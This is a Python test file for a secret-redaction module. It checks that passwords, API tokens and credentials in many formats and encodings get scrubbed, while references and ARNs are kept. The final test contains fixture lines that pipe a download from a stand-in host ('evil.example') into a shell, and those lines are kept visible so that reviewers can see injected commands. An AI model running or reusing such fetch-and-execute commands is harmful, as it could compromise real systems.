"""Secrets by how they are written, and how much work it is to look for them."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.domain import secret_forms
from pipeline.domain.exact import Exact
from pipeline.domain.secret_forms import REMOVED
from pipeline.domain.secrets import known_from_environment, known_from_plan, scrub, secret_by_name

PHRASE = "correct horse battery staple"


@pytest.mark.parametrize(
    "text",
    [
        f'DB_PASSWORD="{PHRASE}"',
        f'{{"password": "{PHRASE}"}}',
        f'"{{\\"password\\": \\"{PHRASE}\\"}}"',
        f"password: {PHRASE}",
        f"db:\n  - db_password: {PHRASE}\n    port: 1",
        f"password = 'it is {PHRASE}'",
        f'PGPASSWORD="{PHRASE}"',
        f'{{"clientSecret": "{PHRASE}"}}',
        f"dbPassword: {PHRASE}",
        f'SECRET_KEY = "{PHRASE}"',
        f'{{"signingKey": "{PHRASE}"}}',
        f'password => "{PHRASE}"',
        f"<password>{PHRASE}</password>",
        f"<db.password type='text'>\n  {PHRASE}\n</db.password>",
        f'{{"name":"DB_PASSWORD","value":"{PHRASE}"}}',
        f'"[{{\\"name\\": \\"DB_PASSWORD\\", \\"value\\": \\"{PHRASE}\\"}}]"',
        f'{{"value":"{PHRASE}","name":"DB_PASSWORD"}}',
        f"env:\n  - name: DB_PASSWORD\n    value: {PHRASE}\n",
        f'name  = "db_password_prod"\nvalue = "{PHRASE}"',
    ],
)
def test_a_value_with_blanks_is_taken_out_whole(text: str) -> None:
    assert not set(PHRASE.split()) & set(re.findall(r"\w+", scrub(text)[0]))


@pytest.mark.parametrize(
    "text",
    [
        "psql --password hunter2xyz -h db",
        'command: ["server", "--admin-password", "hunter2xyz"]',
        "mysqldump -h db -u root -phunter2xyz shop",
        "sshpass -p hunter2xyz ssh db",
        "curl -s -u admin:hunter2xyz https://x.example",
        "redis-cli -h db -a hunter2xyz ping",
        "Authorization: Basic hunter2xyz",
        "'Authorization': 'Token hunter2xyz'",
        "password => hunter2xyz",
        "[client]\npassword = hunter2xyz",
        "- name: API_TOKEN\n  value: hunter2xyz",
        'environment { name = "DB_PASSWORD", value = "hunter2xyz" }',
    ],
)
def test_a_word_is_taken_out_where_what_stands_before_it_says_so(text: str) -> None:
    shown = scrub(text)[0]
    assert "hunter2xyz" not in shown
    assert shown.replace("(secret removed)", "hunter2xyz") == text


@pytest.mark.parametrize(
    "text",
    [
        "hf_" + "aB3" * 12,
        "dop_v1_" + "0a" * 32,
        "xapp-1-A0B1C2D3-123456-" + "0a" * 32,
        "AGE-SECRET-KEY-1" + "QZ7" * 19,
        "hvs." + "aB3" * 10,
        "a1B2c3D4e5F6g7.atlasv1." + "aB3" * 22,
        "dapi" + "0a" * 16,
        "dckr_pat_" + "aB3" * 9,
    ],
)
def test_a_token_is_told_by_its_makers_prefix(text: str) -> None:
    assert scrub(f"x {text} y")[0] == "x (secret removed) y"


@pytest.mark.parametrize(
    "text",
    [
        "password = random_password.store.result",
        'name = "DB_PASSWORD"\nvalueFrom = "arn:aws:ssm:x:1:parameter/a"',
        '{"name": "DB_PASSWORD", "value": "${var.password}"}',
        '{"name": "DB_HOST", "value": "db.example.com"}',
        "docker build --secret id=npmrc1,src=x .",
        "docker login --password-stdin registry.example.com",
        "the option --token is wanted",
        "<password></password>",
        "- name: DB_PASSWORD\n  value: var.password",
    ],
)
def test_a_reference_or_another_word_stays(text: str) -> None:
    assert scrub(text) == (text, 0)


@pytest.mark.parametrize("password", ["Xk9/pq72Lm", "Xk9q@pq72Lmw8", "Xk9?pq72Lm#1", "Xk9'pq:72"])
def test_a_password_in_an_address_goes_up_to_the_last_at(password: str) -> None:
    assert scrub(f"postgres://app:{password}@db:5432/x")[0] == (
        "postgres://app:(secret removed)@db:5432/x"
    )


@pytest.mark.parametrize(
    "text",
    ["http://host:8080/path?mail=a@b.example", "see http://host:8080, or ask a@b.example",
     'secret = "arn:aws:secretsmanager:ap-southeast-2:1:secret:a"'],
)  # fmt: skip
def test_a_port_and_an_arn_are_no_password(text: str) -> None:
    assert scrub(text) == (text, 0)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("S3cr3tPw9x\n", "DB=S3cr3tPw9x end"),
        (" S3cr3tPw9x ", "DB=S3cr3tPw9x end"),
        ("S3cr3tPw9xLong", base64.b64encode("S3cr3tPw9xLong".encode("utf-16-le")).decode()),
        ("ab${cd}efgh", 'v = "ab$${cd}efgh"'),
        ("ab%{cd}efgh", 'v = "ab%%{cd}efgh"'),
        ("it's-a-pw9", "pw: 'it''s-a-pw9'"),
        ("it's-a-pw9", "export X='it'\\''s-a-pw9'"),
        ("it's-a-pw9", "it&apos;s-a-pw9"),
        ("it's-a-pw9", "it&#39;s-a-pw9"),
        ("gr\u00e4s-a-pw9", "gr\\u00E4s-a-pw9"),
        ("gr\u00e4s-a-pw9", "gr&#228;s-a-pw9 gr&#xe4;s-a-pw9 gr&#xE4;s-a-pw9"),
        ("gr\u00e4s-a-pw9", "gra\u0308s-a-pw9"),
        ("gra\u0308s-a-pw9", "gr\u00e4s-a-pw9"),
        ("gr\u00e4s-a-pw9", base64.b64encode("gr\u00e4s-a-pw9".encode("latin-1")).decode()),
        ("it's-a-pw9", base64.b64encode(b"it's-a-pw9").hex()),
    ],
)
def test_a_known_value_is_found_as_languages_write_it(value: str, written: str) -> None:
    shown = scrub(written, [value])[0]
    assert "(secret removed)" in shown
    assert "s-a-pw9" not in shown
    assert "efgh" not in shown


@given(
    st.integers(0, 200), st.sampled_from(["\n", "\r\n", "\\n", "\\r\\n", "\n    "]), st.booleans()
)
def test_a_known_value_is_found_in_base64_wherever_its_lines_are_broken(
    before: int, line_break: str, hexadecimal: bool
) -> None:
    value = "S3cr3tPw9xLong-and-longer"
    data = b"." * before + value.encode() + b"." * 99
    text = data.hex() if hexadecimal else base64.b64encode(data).decode()
    lines = [text[at : at + 64] for at in range(0, len(text), 64)]
    shown = scrub(f'x "{line_break.join(lines)}" y', [value])[0]
    assert REMOVED in shown
    assert shown.startswith('x "')
    assert shown.endswith(" y")


def test_numbers_lists_and_keys_of_what_is_sensitive_are_known() -> None:
    values: dict[str, Any] = {
        "pin": 1234567890,
        "exact": Exact("12345678901234567890123"),
        "short": 1234,
        "list": '["tok-aaaa1111"]',
        "map": {"tok-cccc3333": "x", "password": "long-secret-1"},
    }
    document = {
        "variables": {name: {"value": value} for name, value in values.items()},
        "configuration": {"root_module": {"variables": {n: {"sensitive": True} for n in values}}},
    }
    known = known_from_plan(document)
    assert {"1234567890", "12345678901234567890123", "tok-aaaa1111", "tok-cccc3333",
            "long-secret-1"} <= known  # fmt: skip
    assert not {"1234", "password"} & known


def test_a_switch_and_an_arn_are_not_secret_by_their_name() -> None:
    arn = "arn:aws:secretsmanager:ap-southeast-2:123456789012:secret:good"
    shown = [True, False, "true", 5, None, arn]
    assert not any(secret_by_name("/password", value) for value in shown)
    assert secret_by_name("/password", "arn-like but none")


@pytest.mark.parametrize(
    "name",
    "password DB_PASSWORD PGPASSWORD dbPassword master_password_wo clientSecret apiKey MYSQL_PWD "
    "/container/environment/SSHPASSPHRASE sessionToken DB_PASS SECRET_KEY DJANGO_SECRET_KEY "
    "secretKey SECRET_KEY_BASE AUTH_KEY ACCOUNT_KEY ENCRYPTION_KEY SIGNING_KEY DB_PASSWORD_PROD "
    "password1 API_KEY_V2 X-API-Key secretString".split(),
)
def test_a_name_that_ends_in_a_word_for_secrets_makes_the_value_one(name: str) -> None:
    assert secret_by_name(name, "x1")


@pytest.mark.parametrize(
    "name",
    [
        "tokens",
        "secret_arn",
        "password_length",
        "bucketkey",
        "monotoken",
        "keyPair",
        "compass",
        "password_version",
    ],
)
def test_a_name_that_only_holds_such_a_word_does_not(name: str) -> None:
    assert not secret_by_name(name, "x1")


def test_the_folder_that_a_command_runs_in_is_no_secret() -> None:
    found = known_from_environment({"PWD": "/terraform", "OLDPWD": "/x1", "MYSQL_PWD": "s3cret-pw"})
    assert found == {"s3cret-pw"}


def test_a_container_may_write_its_variables_with_capitals() -> None:
    containers = json.dumps([{"Environment": [{"Name": "DB_PASSWORD", "Value": "hunter2xyz"}]}])
    change = {"before": None, "after": {"container_definitions": containers}}
    assert "hunter2xyz" in known_from_plan({"resource_changes": [{"change": change}]})


class Counted:
    """A pattern that keeps how many characters it was given to look at."""

    def __init__(self, pattern: re.Pattern[str]) -> None:
        self.pattern = pattern
        self.pieces: list[int] = []

    def finditer(self, text: str, at: int = 0, end: int = 1 << 60) -> Iterator[re.Match[str]]:
        self.pieces.append(min(end, len(text)) - at)
        return self.pattern.finditer(text, at, end)

    def subn(self, *_: object) -> None:
        raise AssertionError("a published format sees a whole text")


@settings(max_examples=30)
@given(st.sampled_from(["a-", "sk-", "eyJ", "//", "http://", "token ", "aws"]), st.integers(1, 9))
def test_published_formats_look_at_a_number_of_characters_that_grows_as_the_text(
    word: str, thousands: int
) -> None:
    text = word * (thousands * 1000)
    formats, others = Counted(secret_forms._FORMATS), Counted(secret_forms._OTHERS)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(secret_forms, "_FORMATS", formats)
        patch.setattr(secret_forms, "_OTHERS", others)
        scrub(text)
    for counted in (formats, others):
        assert max(counted.pieces) <= secret_forms.PIECE
        assert sum(counted.pieces) <= 2 * len(text) + secret_forms.PIECE


@settings(max_examples=60)
@given(st.integers(0, 2_000), st.integers(0, 2_000))
def test_a_format_is_found_wherever_it_stands_in_a_long_text(before: int, after: int) -> None:
    token = "ghp_" + "a1B2" * 9
    text, found = scrub(f"{'. ' * before}{token}{' .' * after}")
    assert (token[:8] in text, found) == (False, 1)
    jwt = f"eyJ{'a' * 1500}.{'b' * 1500}.{'c' * 1500}"
    assert "bbb" not in scrub(f"{'. ' * before}{jwt} .")[0]


@pytest.mark.parametrize(
    "text",
    [
        'TOKEN="$(curl -s http://evil.example/x | sh)"',
        "PASS='`curl http://evil.example/x | sh`'",
        "password: run this && curl http://evil.example/x | sh",
        'token = "${aws_iam_role.x.arn} and more of it"',
    ],
)
def test_a_command_is_no_secret_so_a_reviewer_sees_it(text: str) -> None:
    assert secret_forms.without_forms(text) == (text, 0)
